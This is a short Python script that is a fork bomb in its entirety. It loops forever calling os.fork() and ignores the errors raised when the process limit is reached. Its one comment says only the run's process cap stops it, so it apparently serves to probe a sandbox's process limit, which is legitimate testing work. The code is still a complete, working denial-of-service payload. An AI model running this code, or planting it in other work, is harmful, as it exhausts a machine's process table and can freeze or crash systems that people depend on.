import os

# Forks without end; only the run's process cap stops it.
while True:
    try:
        os.fork()
    except OSError:
        pass
